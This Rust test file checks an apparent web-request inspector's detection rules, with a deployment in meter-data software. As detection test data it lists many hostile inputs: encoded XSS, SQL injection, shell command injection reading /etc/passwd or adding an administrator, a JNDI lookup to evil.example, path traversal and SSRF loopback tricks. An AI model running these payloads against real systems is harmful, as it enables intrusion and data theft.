//! What the inspection finds, what it lets be, and that no text slows it down or makes it fall.

use std::{
    hint::black_box,
    time::{Duration, Instant},
};

use proptest::prelude::*;

use super::{rules, *};

fn inspector() -> Inspector {
    Inspector::new(Vec::new(), u32::MAX)
}

fn rules_in(inspection: &Inspection<'_>) -> Vec<&'static str> {
    inspection
        .report()
        .map(|report| report.rules)
        .unwrap_or_default()
}

fn score(inspection: &Inspection<'_>) -> u32 {
    inspection.report().map_or(0, |report| report.score)
}

fn in_field(field: &str, text: &str) -> u32 {
    let inspector = inspector();
    let mut inspection = inspector.begin("/");
    inspection.text(field, text);
    score(&inspection)
}

fn of_head(method: &str, target: &str, fields: &[(&str, &str)]) -> Vec<&'static str> {
    let inspector = inspector();
    let mut inspection = inspector.begin("/");
    let (path, query) = match target.split_once('?') {
        Some((path, query)) => (path, Some(query)),
        None => (target, None),
    };
    let fields: Vec<_> = fields
        .iter()
        .map(|(name, value)| (*name, value.as_bytes()))
        .collect();
    inspection.head(&Head {
        method,
        path,
        query,
        fields: &fields,
    });
    rules_in(&inspection)
}

fn of_body(media_type: &str, body: &str) -> Vec<&'static str> {
    let inspector = inspector();
    let mut inspection = inspector.begin("/");
    inspection.body(Some(media_type.as_bytes()), body.as_bytes());
    rules_in(&inspection)
}

#[test]
fn every_pattern_compiles_and_every_rule_has_a_name_of_its_own() {
    assert!(Matcher::shared().is_complete());
    let mut ids: Vec<_> = rules::all().map(|rule| rule.id).collect();
    assert!(ids.len() <= 128, "a tally has a bit for each");
    ids.sort_unstable();
    let all = ids.len();
    ids.dedup();
    assert_eq!(ids.len(), all);
    assert!(rules::all().all(|rule| (1..=5).contains(&rule.score)));
}

#[test]
fn every_rule_finds_its_own_example() {
    let inspector = inspector();
    let places = [
        Places::VALUE,
        Places::PROSE,
        Places::NAME,
        Places::PATH,
        Places::FILE,
        Places::AGENT,
        Places::DOCUMENT,
    ];
    for rule in rules::all().filter(|rule| !rule.id.starts_with("protocol-")) {
        if rule.id == "file-include-parameter" {
            continue;
        }
        let found = places
            .iter()
            .filter(|place| rule.places.meets(**place))
            .any(|place| {
                let mut inspection = inspector.begin("/");
                inspection.judge(*place, b"", rule.example.as_bytes());
                rules_in(&inspection).contains(&rule.id)
            });
        assert!(found, "{}: {}", rule.id, rule.example);
    }
    assert!(
        of_head("GET", "/a?template=https://evil.example/a", &[])
            .contains(&"file-include-parameter")
    );
}

#[test]
fn an_attack_is_found_however_it_is_encoded() {
    for value in [
        "<script>alert(1)</script>",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "%253Cscript%253Ealert(1)%253C/script%253E",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#x3e;alert(1)&#60/script&#62;",
        "\\u003cscript\\u003ealert(1)\\x3c/script\\x3e",
        "\\u{3c}script\\u{3e}alert(1)",
        "%uff1cscript%uff1ealert(1)%uff1c/script%uff1e",
        "＜script＞alert(1)＜/script＞",
        "%C0%BCscript%C0%BEalert(1)",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "<\0s\0c\0r\0i\0p\0t\0>alert(1)",
    ] {
        assert!(in_field("x", value) >= 5, "{value}");
    }
}

#[test]
fn an_attack_is_found_wherever_it_stands() {
    let attack = "x'+or+'1'='1";
    assert!(of_head("GET", "/api/v1/meters/x'%20or%20'1'='1", &[]).contains(&"sql-tokens"));
    assert!(of_head("GET", &format!("/a?b={attack}"), &[]).contains(&"sql-tokens"));
    assert!(of_head("GET", &format!("/a?{attack}"), &[]).contains(&"sql-tokens"));
    let cookie = [("cookie", "a=b; c=x' or '1'='1")];
    assert!(of_head("GET", "/", &cookie).contains(&"sql-tokens"));
    let referer = [("referer", "https://a.example/?b=x' or '1'='1")];
    assert!(of_head("GET", "/", &referer).contains(&"sql-tokens"));
    let agent = [("user-agent", "${jndi:ldap://evil.example/a}")];
    assert!(of_head("GET", "/", &agent).contains(&"code-jndi"));
    for (media_type, body) in [
        ("application/json", r#"{"a":{"b":["x' or '1'='1"]}}"#),
        ("application/json", r#"{"x' or '1'='1":1}"#),
        (
            "application/json",
            r#"{"a":"x\u0027 or \u00271\u0027=\u00271"}"#,
        ),
        ("application/json", r#"{"a":1,"location":"x' or '1'='1"#),
        ("application/x-www-form-urlencoded", "a=1&b=x'+or+'1'='1"),
        ("application/xml", "<a><b>x' or '1'='1</b></a>"),
        ("application/xml", "<a b=\"x' or '1'='1\"/>"),
        ("text/plain", "x' or '1'='1"),
        ("text/csv", "meter_id,location\nm1,x' or '1'='1\n"),
        (
            "multipart/form-data; boundary=b",
            "--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nx' or '1'='1\r\n--b--\r\n",
        ),
    ] {
        assert!(
            of_body(media_type, body).contains(&"sql-tokens"),
            "{media_type}: {body}"
        );
    }
}

#[test]
fn people_may_write_what_they_mean() {
    for text in [
        "O'Brien & Sons Ltd., Unit 5/6 (rear)",
        "union was a great select",
        "Please select one from the list and drop it at the union office",
        "1 or 2 meters; between 5 and 10 kW",
        "C:\\Users\\smith\\Documents\\meters.xlsx",
        "https://www.example.com/maps?q=51.5,-0.12&z=17",
        "temperature < 20 and humidity > 50",
        "meter replaced 2024-01-05; reading = 1234.5 kWh -- see note #3",
        "12 Rue de l'Église; 2nd floor",
        "5' 10\" tall, {today only}, 50% off",
        "John \"Johnny\" Smith <john.smith@example.com>",
        "JavaScript: Basics of JavaScript Language",
        "who; what; where | left wall",
        "echo in the mirror",
        "{\"note\": \"ok\"}",
    ] {
        assert_eq!(in_field("location", text), 0, "{text}");
    }
    for text in [
        "union was a great select",
        "ls 300 lexus",
        "curl and divergence",
        "exec noun",
        "D'or 1st parfume",
        "john+or@var.es",
        "h2<h1",
        "1) a-b=c",
    ] {
        assert!(in_field("x", text) < 5, "{text}");
    }
}

#[test]
fn a_text_that_people_write_is_told_from_its_neighbour_that_none_would() {
    for (attack, text) in [
        (
            "x' AND ELT(4616=4616,2263)-- q",
            "Note (4616 = old number, 2263 = new)",
        ),
        ("IIF(17=17,1,1/0)", "if (and only if) 17 = 17, keep 1/0"),
        ("(CASE WHEN 2=2 THEN 3 END)", "in case when 2 are needed"),
        ("or x=x--", "x or y = 2 phases"),
        (
            "admin'--",
            "as the designer said it \"works as it should\" -- D. Gray",
        ),
        ("1'::jsonb", "`format::Json` and ISO 1003.1e (draft)"),
        ("a`sleep 60`", "Run `npm install`, then `uname -a` once"),
        (
            "`/usr/bin/id`",
            "the `cli.js` script, see `/usr/local/bin/myapp`",
        ),
        ("|/usr/bin/id", "it stands in for /bin/sh, and /usr/bin/id"),
        (
            "& sleep 5",
            "& Sons; sleep mode from 22:00, class 0.5S (see E-2/2)",
        ),
        ("cat /e?c/pa?swd", "what? and/or? when?"),
        ("x;{cat,/etc/hosts}", "{a, b} and {kWh, kVA}"),
        (
            "ping%PROGRAMFILES:~10,-5%127.0.0.1",
            "50 %: ~10, -5 % of m^2",
        ),
        ("who$@ami", "who am i"),
        ("echo a|$0", "meter A | $ 10"),
        ("(alert)(1)", "(alert) (1)"),
        ("(17=17)*3", "(17 = 17) * 3"),
        ("x; id; ls -la", "AC 230.5 V; DC -48 V; DC > 5 kW; ID 4711"),
        ("|ls -la | grep a", "| ID | NL | DC | AC | time | host |"),
        (
            "x; netstat -an",
            "pump; top 3.5 m; find 5/6; cat 6; GCC 3.3 m",
        ),
        ("Get-Content $a", "the get-content example, \"A\" -> \"B\""),
        ("' or count(/*)=1", "Name (*), count ( ) of rows"),
        ("a=x;X=id;$X", "X=5; Y=6; $5"),
        (
            "'.exit(md5('x'));//",
            "; exit (1) to the left; die Tür klemmt",
        ),
        ("alert?.(1)", "alert. (1) call the office"),
        ("<!--#flastmod virtual=\"a\" -->", "<!-- #5 is spare -->"),
        ("o<x>nfocus=1", "x<y and y>z"),
        ("..%5c..%5cboot.ini", "50..60 % of 5..6 kW"),
        (
            "file:///etc/hosts",
            "The settings are in /etc/services and /var/log",
        ),
        ("\\\\::1\\c$\\users", "\\\\server\\share\\plans"),
        ("http://0x7f000001/", "http://www.example.com/0x7f"),
        ("http://3232235521/", "http://www.example.com/3232235521/"),
        (
            "http://[0:0:0:0:0:ffff:127.0.0.1]/",
            "http://[2001:db8::1]/",
        ),
        ("http://0177.0.0.1/", "http://203.0.113.7/"),
        ("http://a.example.127.0.0.1.nip.io/", "http://a.example/nip"),
        ("admin*)((|userpassword=*)", "(*) see note; f(x)=(a|b)"),
        (")(cn=))", "(cn = 5) (see 3)"),
        ("{__schema{types{name}}}", "the __schema of types"),
        ("x' and starts-with(../a,'b", "and starts with (a) or (b)"),
        ("$ex.waitFor()", "costs $ 5.50 (net)"),
        ("{42*42}", "42*42 {tiles}"),
        (
            "reg add HKLM\\System /v a /d 0 /f",
            "Reg. Add. 5; net use 30 kWh / month; net group share",
        ),
        ("JyBvciAxPTEtLSB4eHg=", "Donaudampfschifffahrt"),
    ] {
        assert!(in_field("location", attack) >= 5, "{attack}");
        assert_eq!(in_field("location", text), 0, "{text}");
    }
}

#[test]
fn a_value_may_be_a_sentence() {
    for text in [
        "alter Stand 58692 kWh; alter Zähler; neuer Stand 7",
        "L'union des locataires",
        "Isolate at 'A1'; insert fuse; delete label; update drawing",
        "CT ratio 200/5 A; class 0.5S (see drawing E-2/2)",
        ";performance",
        "net use 30 kWh / month, net share 5 %",
    ] {
        assert!(in_field("q", text) < 5, "{text}");
    }
    for attack in [
        ";insert[x",
        ";select password from users",
        "';truncate meters;",
        "a;{\\c''at,/e*/passwd}",
        "un<>ion sel<>ect 1",
        "WD0kJ3VuYW1lXHgyMC1hJyYmJFg=",
        "d2hgYG9hbWk=",
        "x\\nnetstat -an\\n",
        "net localgroup Administrators x /ADD",
    ] {
        assert!(in_field("q", attack) >= 5, "{attack}");
    }
}

#[test]
fn a_form_is_prose_where_its_fields_are() {
    let form = |body: &str| of_body("application/x-www-form-urlencoded", body);
    let note = "note=Run+`npm+install`;+see+(4)&name=O'Brien";
    assert_eq!(form(note), [""; 0]);
    assert!(!form(&note.replace("note", "other")).is_empty());
    assert!(form("note=x'+union+select+1,2+--&name=a").contains(&"sql-union"));
}

#[test]
fn header_fields_are_looked_into_for_statements() {
    for attack in [
        "17' AND 2101=CONCAT('a',(SELECT 1)) AND ('b' LIKE 'b",
        "1);waitfor delay '0:0:7'--1",
        "admin'--",
        "17 AND 7203=7203-- q",
    ] {
        for name in ["user-agent", "x-client-note", "referer"] {
            assert!(
                !of_head("GET", "/", &[(name, attack)]).is_empty(),
                "{name}: {attack}"
            );
        }
    }
    for (name, value) in [
        ("if-none-match", "W/\"-1--a\", \"33a\""),
        ("x-client-note", "Peter's laptop; retry=1"),
        ("user-agent", "Gateway/1.0; fw=4.2; model='X-200'"),
        ("forwarded", "for=\"[2001:db8::17]:4711\";proto=https"),
        (
            "sec-ch-ua",
            "\"Not)A;Brand\";v=\"99\", \"Chromium\";v=\"127\"",
        ),
    ] {
        assert_eq!(of_head("GET", "/", &[(name, value)]), [""; 0], "{name}");
    }
}

#[test]
fn usual_clients_are_not_blamed() {
    for agent in [
        "curl/8.5.0",
        "python-requests/2.32.3",
        "Prometheus/2.53.0",
        "Wget/1.21.4",
        "Go-http-client/1.1",
        "okhttp/4.12.0",
        "Apache-HttpClient/4.5.14 (Java/17.0.11)",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
        "kube-probe/1.30",
    ] {
        let fields = [
            ("host", "ems.example:8000"),
            ("user-agent", agent),
            (
                "accept",
                "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8",
            ),
            ("accept-language", "de-DE,de;q=0.9,en;q=0.8"),
            (
                "authorization",
                "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJvcj0xIn0.c2lnbmF0dXJl",
            ),
            (
                "cookie",
                "_ga=GA1.2.1234.5678; session=6f1e3c2a-0b51-4b8e-9f0d-3a5b1c2d4e5f",
            ),
            (
                "sec-ch-ua",
                "\"Not A;Brand\";v=\"99\", \"Chromium\";v=\"126\"",
            ),
            ("if-none-match", "W/\"33a64df5\""),
            (
                "traceparent",
                "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
            ),
            ("x-forwarded-for", "203.0.113.7, 10.0.0.1"),
        ];
        let target = "/api/v1/analytics/usage?meter_id=plant7-*&start=2024-01-01T00:00:00%2B01:00\
                      &end=2024-02-01T00:00:00Z&interval=1d&timezone=Europe/London&cursor=AbC-_d";
        assert_eq!(of_head("GET", target, &fields), [""; 0], "{agent}");
    }
}

#[test]
fn a_rule_that_is_allowed_counts_elsewhere() {
    let attack = "x' or '1'='1";
    let found = |allow: Option<(Option<&str>, Option<&str>)>, route: &str, field: &str| {
        let allowed = allow.into_iter().flat_map(|(route, field)| {
            let ids = ["sql-tokens", "sql-tautology", "sql-break", "sql-stacked"];
            ids.map(|id| Allow {
                rule: rule(id).unwrap(),
                route: route.map(str::to_owned),
                field: field.map(str::to_owned),
            })
        });
        let inspector = Inspector::new(allowed.collect(), u32::MAX);
        let mut inspection = inspector.begin(route);
        inspection.text(field, attack);
        score(&inspection) > 0
    };
    assert!(found(None, "/a", "location"));
    assert!(!found(Some((None, None)), "/a", "location"));
    assert!(!found(
        Some((Some("/a"), Some("location"))),
        "/a",
        "location"
    ));
    assert!(found(
        Some((Some("/a"), Some("location"))),
        "/b",
        "location"
    ));
    assert!(found(Some((Some("/a"), Some("location"))), "/a", "name"));
}

#[test]
fn a_report_names_rules_and_place_and_nothing_of_the_text() {
    let inspector = inspector();
    let mut inspection = inspector.begin("/");
    inspection.text("location", "x' union all select secretword from users --");
    let report = inspection.report().unwrap();
    assert_eq!(report.place, "text location");
    assert!(report.rules.contains(&"sql-union"));
    assert!(!format!("{report:?}").contains("secretword"));
    // A name that is no plain one is not repeated.
    let mut inspection = inspector.begin("/");
    inspection.text("a' or '1'='1", "<script>");
    assert_eq!(inspection.report().unwrap().place, "value");
}

#[test]
fn what_a_head_should_not_hold_is_found() {
    for (method, target, fields, rule) in [
        ("TRACK", "/", &[][..], "protocol-method"),
        ("GET", "http://evil.example/", &[], "protocol-target"),
        ("GET", "/a?b=%00", &[], "protocol-nul"),
        ("GET", "/a?b=%01", &[], "protocol-control"),
        ("GET", "/a?b=%c0", &[], "protocol-encoding"),
        ("GET", "/a?b=%zz", &[], "protocol-encoding"),
        ("GET", "/a?b=%2541", &[], "protocol-encoding-twice"),
        ("GET", "/a?b=%u0041", &[], "protocol-encoding-wide"),
        ("GET", "/a%0ab", &[], "split-path"),
        (
            "GET",
            "/",
            &[("proxy", "http://a")],
            "protocol-field-strange",
        ),
        (
            "GET",
            "/",
            &[("connection", "keep-alive, close")],
            "protocol-field",
        ),
        (
            "GET",
            "/",
            &[("range", "bytes=0-,5-0,5-1")],
            "protocol-range",
        ),
        (
            "POST",
            "/",
            &[("content-type", "text/plain; charset=utf-7")],
            "protocol-media-type",
        ),
        (
            "POST",
            "/",
            &[("content-type", "application/x-amf")],
            "protocol-media-type-strange",
        ),
    ] {
        assert!(
            of_head(method, target, fields).contains(&rule),
            "{method} {target}"
        );
    }
    let long = format!("/a?{}=b", "1".repeat(101));
    assert!(of_head("GET", &long, &[]).contains(&"protocol-parameters"));
}

#[test]
fn what_leaves_no_room_is_not_looked_at_and_nothing_else_is_spared() {
    for text in [
        "0.2871",
        "2024-01-01T00:30:00.5+01:00",
        "20200101T000000Z",
        "",
        "17",
    ] {
        assert!(is_number_or_time(text.as_bytes()), "{text}");
    }
    for text in [
        "1--", "-1", "1.e", "1/**/", "1+1--", "T", "1 ", "1'", "0x1", "1:=", "1..2",
    ] {
        assert!(!is_number_or_time(text.as_bytes()), "{text}");
    }
    let path = |route, path| {
        let inspector = inspector();
        let mut inspection = inspector.begin(route);
        inspection.head(&Head {
            method: "GET",
            path,
            query: None,
            fields: &[("host", b"x")],
        });
        inspection.report().is_some()
    };
    let known = "/api/v1/data/{meter_id}";
    for attack in [
        "/api/v1/data/../../etc/passwd",
        "/api/v1/data/%2fproc%2fself%2fenviron",
    ] {
        assert!(path(known, attack) && path("unmatched", attack), "{attack}");
    }
    assert!(!path(known, "/api/v1/data/phpmyadmin"));
}

#[test]
fn judges_no_further_than_enough_and_no_less_than_all_until_then() {
    let attack = "1 UNION ALL SELECT null, null";
    let report = |enough, texts: &[&str]| {
        let inspector = Inspector::new(Vec::new(), enough);
        let mut inspection = inspector.begin("/");
        for text in texts {
            inspection.text("q", text);
        }
        inspection.report().unwrap()
    };
    let all = report(u32::MAX, &[attack, "<script>alert(1)</script>"]);
    let some = report(5, &[attack, "<script>alert(1)</script>"]);
    assert!((5..all.score).contains(&some.score), "{some:?}");
    // At the end of a long text, and across where it is cut up, it is found as well.
    for before in [3_500, 3_570, 3_580, 4_000, 4_080, 4_090, 60_000] {
        let text = format!("{} {attack}", "lorem ipsum ".repeat(before / 12));
        assert!(
            report(20, &[&text]).rules.contains(&"sql-union"),
            "{before}"
        );
    }
}

#[test]
fn what_was_nothing_once_is_known_and_what_was_allowed_once_is_not() {
    let (attack, agent) = (
        "${jndi:ldap://x/a}",
        "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101",
    );
    let allowed = Allow {
        rule: rule("code-jndi").unwrap(),
        route: Some("/a".to_owned()),
        field: None,
    };
    let inspector = Inspector::new(vec![allowed], u32::MAX);
    let of = |route: &str, value: &str| {
        let mut inspection = inspector.begin(route);
        inspection.repeated(Places::AGENT, b"user-agent", value.as_bytes());
        inspection.report().map_or(0, |report| report.score)
    };
    assert!(of("/a", attack) < of("/b", attack));
    assert_eq!((of("/a", agent), of("/b", agent)), (0, 0));
    assert!(inspector.seen.is_nothing(Places::AGENT, agent.as_bytes()));
    for (place, text) in [(Places::AGENT, attack), (Places::REFERER, agent)] {
        assert!(!inspector.seen.is_nothing(place, text.as_bytes()));
    }
}

/// The time of the fastest of three looks at a body.
fn time_of(body: &[u8]) -> Duration {
    let inspector = inspector();
    let look = || {
        let start = Instant::now();
        let mut inspection = inspector.begin("/");
        inspection.body(Some(b"text/plain"), body);
        black_box(inspection.report());
        start.elapsed()
    };
    (0..3).map(|_| look()).min().unwrap()
}

#[test]
fn no_shape_takes_more_than_linear_time() {
    for shape in [
        "lorem ipsum ",
        "%",
        "%25",
        "&#",
        "&lt;",
        "(",
        "'",
        "\"",
        "<",
        "<a ",
        "QUJD",
        "\\u",
        "a=&",
        "{\"a\":",
        "/*",
        "../",
        "$(",
        "select ",
        "' or ",
        "\0",
        "[]",
        "{{",
        "x",
    ] {
        let body = |length: usize| shape.repeat(length / shape.len());
        let (short, long) = (
            time_of(body(16_384).as_bytes()),
            time_of(body(131_072).as_bytes()),
        );
        let floor = Duration::from_millis(2);
        assert!(
            long < short.max(floor) * 8 * 4,
            "{shape:?}: {short:?} and {long:?}"
        );
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(96))]

    #[test]
    fn no_bytes_make_it_fall(body in prop::collection::vec(any::<u8>(), 0..400), kind in 0_usize..6) {
        let kinds = ["application/json", "application/x-www-form-urlencoded", "text/csv",
            "multipart/form-data; boundary=b", "application/xml", "x"];
        let inspector = inspector();
        let mut inspection = inspector.begin("/");
        inspection.body(Some(kinds[kind].as_bytes()), &body);
        inspection.judge(Places::PATH, b"", &body);
        inspection.judge(Places::COOKIE, b"", &body);
    }

    #[test]
    fn no_pieces_of_attacks_make_it_fall(pieces in prop::collection::vec(prop::sample::select(vec![
        "'", "\"", "`", "--", "/*", "*/", "#", "(", ")", "select", "union", " ", "or", "1", "=", "<",
        "script", ">", "on", "javascript:", "&#", "x3c", "%", "25", "3c", "\\u", "003c", "\0", "${",
        "}", "é", ";", "|", "$", "@@", "{", "0x", "\\", "\n", "--b\r\n", "1e", ".", "!", "\u{ff1c}",
    ]), 0..40)) {
        let text = pieces.concat();
        in_field("location", &text);
        in_field("x", &text);
    }

    #[test]
    fn a_plain_name_or_number_is_never_blamed(text in "[A-Za-z0-9]{1,20}(, ?[A-Za-z0-9]{1,12}){0,3}") {
        prop_assert_eq!(in_field("location", &text), 0);
    }
}
